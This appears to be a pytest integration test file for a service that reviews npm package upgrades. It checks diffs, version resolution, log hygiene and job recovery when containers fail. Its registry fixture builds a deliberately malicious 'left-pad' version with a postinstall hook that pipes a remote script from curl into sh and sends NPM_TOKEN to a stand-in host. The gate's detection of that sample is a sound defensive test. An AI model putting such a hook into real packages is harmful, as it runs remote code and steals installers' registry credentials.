"""The gate does its job: packages of a real registry are compared, judged, and no job is lost."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.support import verdaccio
from tests.support.commands import docker, wait_until
from tests.support.review_stack import DONE_SECONDS, TOKEN, Gate, started
from tests.support.verdaccio import Registry

PLAIN = {"index.js": "module.exports = (text, width) => text.padStart(width);\n"}


@pytest.fixture(scope="module")
def packages(built) -> Iterator[Registry]:
    """The registry, with what the tests publish."""
    with verdaccio.running(built.references["worker"]) as found:
        found.publish("left-pad", "1.2.0", PLAIN, scripts={"test": "node test.js"})
        better = {
            **PLAIN,
            "index.js": PLAIN["index.js"] + "module.exports.width = 8;\n",
            "README.md": "# left-pad\n",
        }
        found.publish("left-pad", "1.3.0", better, scripts={"test": "node test.js"})
        stolen = {
            **PLAIN,
            "steal.js": "require('child_process').execSync('curl http://198.51.100.7/x | sh');\n"
            "require('https').get('https://drop.test/?' + process.env.NPM_TOKEN);\n",
        }
        found.publish("left-pad", "1.3.1", stolen, scripts={"postinstall": "node steal.js"})
        found.publish("@scope/pad", "1.0.0", PLAIN)
        found.publish("@scope/pad", "1.0.1", {**PLAIN, "LICENSE": "MIT\n"})
        yield found


@pytest.fixture(scope="module")
def gate(contract, engine, built, packages, project_name) -> Iterator[Gate]:
    """A stack of its own, whose worker looks often, with the registry on its network."""
    variables = {"ARTIFACTORY_URL": packages.inside, "ARTIFACTORY_TOKEN": packages.token}
    with started(contract, engine, f"{project_name}-gate", **variables) as found:
        network = f"{found.engine.project}_default"
        docker("network", "connect", "--alias", verdaccio.HOST, network, packages.container)
        try:
            yield found
        finally:
            docker("network", "disconnect", "--force", network, packages.container)


# --- what it says


def test_harmless_upgrade_passes_with_the_diff_of_npm(gate, packages):
    id_ = gate.submit("left-pad", "1.2.0", "1.3.0")
    review = gate.ended(id_)
    assert review["status"] == "done", review
    result = review["result"]
    assert result["verdict"] == "pass", result
    assert (result["from_version"], result["to_version"]) == ("1.2.0", "1.3.0")
    assert result["statistics"]["files_added"] == 1
    diff = gate.ask("GET", f"/v1/reviews/{id_}/diff").text
    assert diff.strip() == packages.npm_diff("left-pad", "1.2.0", "1.3.0").strip()


def test_malicious_upgrade_is_blocked_with_the_place_of_each_signal(gate):
    review = gate.ended(gate.submit("left-pad", "1.2.0", "1.3.1"))
    result = review["result"]
    assert (result["verdict"], result["threshold"]) == ("block", 0.75)
    places = {(finding["path"], finding["line"]) for finding in result["findings"]}
    assert ("steal.js", 1) in places
    assert ("steal.js", 2) in places


def test_scopes_ranges_and_tags_are_resolved(gate):
    result = gate.ended(gate.submit("@scope/pad", "~1.0.0", "latest"))["result"]
    assert result["to_version"] == "1.0.1"
    result = gate.ended(gate.submit("left-pad", "1.2.x", "1.3.0"))["result"]
    assert (result["from_version"], result["to_version"]) == ("1.2.0", "1.3.0")


@pytest.mark.parametrize(
    ("upgrade", "code"),
    [
        (("no-such-package", "1.0.0", "2.0.0"), "not_found"),
        (("left-pad", "1.2.0", "9.9.9"), "no_such_version"),
    ],
)
def test_missing_package_fails_with_a_reason(gate, upgrade, code):
    review = gate.ended(gate.submit(*upgrade))
    assert (review["status"], review["failure"]["code"]) == ("failed", code)
    assert not review["dead_letter"]


def test_request_id_appears_in_the_workers_log(gate):
    answer = httpx.post(
        f"{gate.address}/v1/reviews?force=true",
        json={"package": "left-pad", "from": "1.2.0", "to": "1.3.0"},
        headers={"Authorization": f"Bearer {TOKEN}", "X-Request-ID": "followed-17"},
    )
    gate.ended(answer.json()["id"])
    for service in ("api", "worker"):
        lines = [line for line in gate.engine.logs(service, 200) if line.startswith("{")]
        assert any(json.loads(line).get("request_id") == "followed-17" for line in lines), service


def test_logs_contain_no_secret(gate, packages):
    gate.ended(gate.submit("left-pad", "1.2.0", "1.3.0", force=True))
    for service in ("api", "worker", "cache"):
        log = "\n".join(gate.engine.logs(service, 2000))
        assert log, service
        assert TOKEN not in log
        assert packages.token not in log


# --- whatever dies

JOBS = 50


def _submit_many(gate: Gate) -> list[str]:
    pairs = [("left-pad", "1.2.0", "1.3.0"), ("left-pad", "1.2.0", "1.3.1")]
    return [gate.submit(*pairs[n % 2], force=True) for n in range(JOBS)]


def _all_done(gate: Gate, ids: list[str]) -> None:
    failures = [review["failure"] for review in gate.all_ended(ids) if review["status"] != "done"]
    assert not failures


def _kill(gate: Gate, ids: list[str], *victims: str) -> None:
    """Kill a container of each of these services while the jobs run, and start them again."""
    containers = [gate.containers(victim)[0] for victim in victims]
    wait_until(
        lambda: "running" in {gate.review(id_)["status"] for id_ in ids},
        DONE_SECONDS,
        "no job runs",
    )
    docker("kill", *containers)
    docker("start", *containers)
    gate.moved()
    wait_until(gate.ready, 60, "the API does not become ready again")


def test_no_job_is_lost_if_registry_worker_and_cache_fail(
    gate, packages
):
    with _away(gate, packages):
        ids = _submit_many(gate)
        failures: list[dict[str, Any]] = []

        def failed() -> bool:
            failures.extend(filter(None, (gate.review(id_)["failure"] for id_ in ids)))
            return bool(failures)

        wait_until(failed, DONE_SECONDS, "none failed")
        assert {failure["code"] for failure in failures} == {"registry_unavailable"}
    _kill(gate, ids, "worker", "cache")
    _all_done(gate, ids)
    assert max(gate.review(id_)["attempts"] for id_ in ids) > 1


@contextlib.contextmanager
def _away(gate: Gate, packages: Registry) -> Iterator[None]:
    """The registry cannot be reached for a while."""
    network = f"{gate.engine.project}_default"
    docker("network", "disconnect", network, packages.container)
    try:
        yield
    finally:
        docker("network", "connect", "--alias", verdaccio.HOST, network, packages.container)


def test_four_workers_do_each_job_once_while_the_api_is_killed(gate):
    workers = gate.containers("worker")
    before = [_done_by(worker) for worker in workers]
    ids = _submit_many(gate)
    _kill(gate, ids, "api")
    _all_done(gate, ids)
    done = [_done_by(worker) - then for worker, then in zip(workers, before, strict=True)]
    assert sum(done) == JOBS
    assert all(done), done


def _done_by(worker: str) -> int:
    return docker("logs", worker).count('"job ended"')


def test_stopped_workers_return_unfinished_jobs(gate, packages):
    """They end by themselves, in time, with status 0; the job is done by whoever comes next."""
    docker("pause", packages.container)
    workers = gate.containers("worker")
    try:
        id_ = gate.submit("left-pad", "1.2.0", "1.3.0", force=True)
        wait_until(
            lambda: gate.review(id_)["status"] == "running", DONE_SECONDS, "nobody takes the job"
        )
        docker("stop", "--time", "10", *workers)
        states = [found["State"]["ExitCode"] for found in gate.engine.inspect("container", workers)]
        assert states == [0] * len(workers)
        assert gate.review(id_)["status"] == "queued"
        assert gate.review(id_)["attempts"] == 0
    finally:
        docker("unpause", packages.container)
        docker("start", *workers)
    assert gate.ended(id_)["status"] == "done"
